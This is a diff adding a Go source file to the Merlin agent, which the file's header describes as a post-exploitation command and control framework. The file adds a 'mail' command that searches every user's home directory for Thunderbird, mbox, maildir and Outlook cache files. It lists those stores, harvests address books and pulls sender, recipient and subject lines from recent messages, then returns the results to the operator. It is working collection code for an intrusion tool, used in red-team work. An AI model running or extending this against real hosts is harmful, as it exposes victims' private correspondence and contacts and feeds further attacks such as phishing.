@@ -0,0 +1,319 @@
+// Merlin is a post-exploitation command and control framework.
+// This file is part of Merlin.
+// Copyright (C) 2022  Russel Van Tuyl
+
+// Merlin is free software: you can redistribute it and/or modify
+// it under the terms of the GNU General Public License as published by
+// the Free Software Foundation, either version 3 of the License, or
+// any later version.
+
+// Merlin is distributed in the hope that it will be useful,
+// but WITHOUT ANY WARRANTY; without even the implied warranty of
+// MERCHANTABILITY or FITNESS FOR A PARTICULAR PURPOSE.  See the
+// GNU General Public License for more details.
+
+// You should have received a copy of the GNU General Public License
+// along with Merlin.  If not, see <http://www.gnu.org/licenses/>.
+
+package commands
+
+import (
+	// Standard
+	"bytes"
+	"fmt"
+	"io"
+	"mime"
+	"net/mail"
+	"os"
+	"path/filepath"
+	"regexp"
+	"sort"
+	"strconv"
+	"strings"
+	"time"
+	"unicode/utf16"
+
+	// Merlin Main
+	"github.com/Ne0nd0g/merlin/pkg/jobs"
+
+	// Internal
+	"github.com/Ne0nd0g/merlin-agent/cli"
+)
+
+const (
+	// mailTail is how much of the end of an mbox file is read for its most recent messages
+	mailTail = 8 * 1024 * 1024
+	// mailDefaultCount is how many recent messages the mail subjects command returns when a count is not provided
+	mailDefaultCount = 50
+)
+
+// mailAddress matches an email address in a header or a cache file
+var mailAddress = regexp.MustCompile(`[A-Za-z0-9._%+'-]+@[A-Za-z0-9-]+(\.[A-Za-z0-9-]+)*\.[A-Za-z]{2,}`)
+
+// mailStore is a mail store or cache found on the host. Kinds are mbox, maildir, autocomplete, and the Outlook ost or
+// pst data files, which are only reported
+type mailStore struct {
+	kind string
+	path string
+}
+
+// mailMessage is the header of a message in an mbox or maildir store
+type mailMessage struct {
+	date    time.Time
+	from    string
+	to      string
+	subject string
+	store   string
+}
+
+// Mail locates mail stores and caches for every user and exports the address book and recent subjects from them rather
+// than whole mail stores. Outlook OST and PST data files are only listed, addresses are read from the Outlook
+// autocomplete cache, and messages are read from Thunderbird, mbox, and maildir stores
+// mail [list]
+// mail addresses
+// mail subjects [count]
+func Mail(cmd jobs.Command) (results jobs.Results, structured Structured) {
+	if cli.Enabled {
+		cli.Message(cli.DEBUG, fmt.Sprintf("entering Mail() with %+v", cmd))
+	}
+	if len(cmd.Args) < 1 {
+		cmd.Args = []string{"list"}
+	}
+	var stores []mailStore
+	for _, home := range homeDirectories() {
+		stores = append(stores, mailStores(home)...)
+		stores = append(stores, thunderbirdStores(home)...)
+	}
+	stores = append(stores, systemMailboxes()...)
+
+	var findings []FindingRecord
+	add := func(category, name, value string) {
+		findings = append(findings, FindingRecord{Category: category, Name: name, Value: value})
+	}
+
+	switch strings.ToLower(cmd.Args[0]) {
+	case "list":
+		for _, store := range stores {
+			value := "unreadable"
+			if info, err := os.Stat(store.path); err == nil {
+				value = fmt.Sprintf("%d bytes, modified %s", info.Size(), info.ModTime().Format(time.RFC3339))
+				if info.IsDir() {
+					value = fmt.Sprintf("modified %s", info.ModTime().Format(time.RFC3339))
+				}
+			}
+			add(store.kind, store.path, value)
+		}
+	case "addresses":
+		counts := make(map[string]int)
+		for _, store := range stores {
+			var addresses []string
+			switch store.kind {
+			case "autocomplete":
+				addresses = autocompleteAddresses(store.path)
+			case "mbox", "maildir":
+				for _, message := range mailMessages(store, 0) {
+					addresses = append(addresses, mailAddress.FindAllString(message.from+" "+message.to, -1)...)
+				}
+			}
+			for _, address := range addresses {
+				counts[strings.ToLower(address)]++
+			}
+		}
+		for address, count := range counts {
+			add("address", address, strconv.Itoa(count))
+		}
+		sort.Slice(findings, func(i, j int) bool {
+			a, _ := strconv.Atoi(findings[i].Value)
+			b, _ := strconv.Atoi(findings[j].Value)
+			if a != b {
+				return a > b
+			}
+			return findings[i].Name < findings[j].Name
+		})
+	case "subjects":
+		count := mailDefaultCount
+		if len(cmd.Args) > 1 {
+			var err error
+			if count, err = strconv.Atoi(cmd.Args[1]); err != nil || count < 1 {
+				results.Stderr = fmt.Sprintf("%s is not a valid number of messages", cmd.Args[1])
+				return
+			}
+		}
+		var messages []mailMessage
+		for _, store := range stores {
+			if store.kind == "mbox" || store.kind == "maildir" {
+				messages = append(messages, mailMessages(store, count)...)
+			}
+		}
+		sort.SliceStable(messages, func(i, j int) bool { return messages[i].date.After(messages[j].date) })
+		if len(messages) > count {
+			messages = messages[:count]
+		}
+		for _, m := range messages {
+			add("message", m.store, fmt.Sprintf("%s from %s to %s: %s", m.date.Format(time.RFC3339), m.from, m.to, m.subject))
+		}
+	default:
+		results.Stderr = fmt.Sprintf("unknown mail command: %s", cmd.Args[0])
+		return
+	}
+
+	if len(findings) == 0 {
+		results.Stdout = "no mail data was found"
+	} else {
+		results.Stdout = findingsText(findings)
+	}
+	structured = newStructured("mail", findings)
+	return
+}
+
+// thunderbirdStores returns the mbox folders in the user's Thunderbird profiles. A folder is a file without an
+// extension next to its .msf index
+func thunderbirdStores(home string) (stores []mailStore) {
+	var profiles string
+	switch {
+	case dirExists(filepath.Join(home, "AppData", "Roaming", "Thunderbird", "Profiles")):
+		profiles = filepath.Join(home, "AppData", "Roaming", "Thunderbird", "Profiles")
+	case dirExists(filepath.Join(home, "Library", "Thunderbird", "Profiles")):
+		profiles = filepath.Join(home, "Library", "Thunderbird", "Profiles")
+	default:
+		profiles = filepath.Join(home, ".thunderbird")
+	}
+	indexes, _ := filepath.Glob(filepath.Join(profiles, "*", "*Mail", "*", "*.msf"))
+	nested, _ := filepath.Glob(filepath.Join(profiles, "*", "*Mail", "*", "*.sbd", "*.msf"))
+	for _, index := range append(indexes, nested...) {
+		path := strings.TrimSuffix(index, ".msf")
+		if info, err := os.Stat(path); err == nil && info.Mode().IsRegular() {
+			stores = append(stores, mailStore{kind: "mbox", path: path})
+		}
+	}
+	return
+}
+
+// dirExists returns true if the path is a directory
+func dirExists(path string) bool {
+	info, err := os.Stat(path)
+	return err == nil && info.IsDir()
+}
+
+// mailMessages returns the headers of the most recent messages in an mbox or maildir store, all of them when count is
+// 0. Only the end of an mbox file is read because messages are appended to it
+func mailMessages(store mailStore, count int) (messages []mailMessage) {
+	var raw [][]byte
+	switch store.kind {
+	case "mbox":
+		f, err := os.Open(store.path) // #nosec G304 the path is a mail store
+		if err != nil {
+			return
+		}
+		defer f.Close()
+		info, err := f.Stat()
+		if err != nil {
+			return
+		}
+		offset := info.Size() - mailTail
+		if offset < 0 {
+			offset = 0
+		}
+		data, err := io.ReadAll(io.NewSectionReader(f, offset, info.Size()-offset))
+		if err != nil {
+			return
+		}
+		// Messages start with a From_ line at the start of a line, the first one in the tail may be partial
+		parts := bytes.Split(data, []byte("\nFrom "))
+		if offset > 0 && len(parts) > 0 {
+			parts = parts[1:]
+		}
+		for _, part := range parts {
+			if i := bytes.IndexByte(part, '\n'); i >= 0 {
+				raw = append(raw, part[i+1:])
+			}
+		}
+	case "maildir":
+		var files []os.FileInfo
+		for _, dir := range []string{"new", "cur"} {
+			entries, _ := os.ReadDir(filepath.Join(store.path, dir))
+			for _, entry := range entries {
+				if info, err := entry.Info(); err == nil && info.Mode().IsRegular() {
+					files = append(files, info)
+				}
+			}
+		}
+		sort.Slice(files, func(i, j int) bool { return files[i].ModTime().After(files[j].ModTime()) })
+		if count > 0 && len(files) > count {
+			files = files[:count]
+		}
+		for _, info := range files {
+			path := filepath.Join(store.path, "cur", info.Name())
+			if _, err := os.Stat(path); err != nil {
+				path = filepath.Join(store.path, "new", info.Name())
+			}
+			if data, err := readHeader(path); err == nil {
+				raw = append(raw, data)
+			}
+		}
+	}
+
+	if count > 0 && len(raw) > count {
+		raw = raw[len(raw)-count:]
+	}
+	decoder := new(mime.WordDecoder)
+	decode := func(s string) string {
+		if decoded, err := decoder.DecodeHeader(s); err == nil {
+			return decoded
+		}
+		return s
+	}
+	for _, data := range raw {
+		msg, err := mail.ReadMessage(bytes.NewReader(data))
+		if err != nil {
+			continue
+		}
+		date, _ := msg.Header.Date()
+		messages = append(messages, mailMessage{
+			date:    date,
+			from:    decode(msg.Header.Get("From")),
+			to:      decode(msg.Header.Get("To")),
+			subject: decode(msg.Header.Get("Subject")),
+			store:   store.path,
+		})
+	}
+	return
+}
+
+// readHeader returns the start of a message file, which holds its header
+func readHeader(path string) ([]byte, error) {
+	f, err := os.Open(path) // #nosec G304 the path is a mail store message
+	if err != nil {
+		return nil, err
+	}
+	defer f.Close()
+	data := make([]byte, 64*1024)
+	n, err := io.ReadFull(f, data)
+	if err != nil && err != io.ErrUnexpectedEOF {
+		return nil, err
+	}
+	return data[:n], nil
+}
+
+// autocompleteAddresses returns the email addresses in an Outlook autocomplete or nickname cache, which stores them as
+// UTF-16 strings that may not be aligned
+func autocompleteAddresses(path string) (addresses []string) {
+	data, err := readFile(path)
+	if err != nil {
+		return
+	}
+	seen := make(map[string]bool)
+	for start := 0; start < 2; start++ {
+		units := make([]uint16, 0, len(data)/2)
+		for i := start; i+1 < len(data); i += 2 {
+			units = append(units, uint16(data[i])|uint16(data[i+1])<<8)
+		}
+		for _, address := range mailAddress.FindAllString(string(utf16.Decode(units)), -1) {
+			if !seen[strings.ToLower(address)] {
+				seen[strings.ToLower(address)] = true
+				addresses = append(addresses, address)
+			}
+		}
+	}
+	return
+}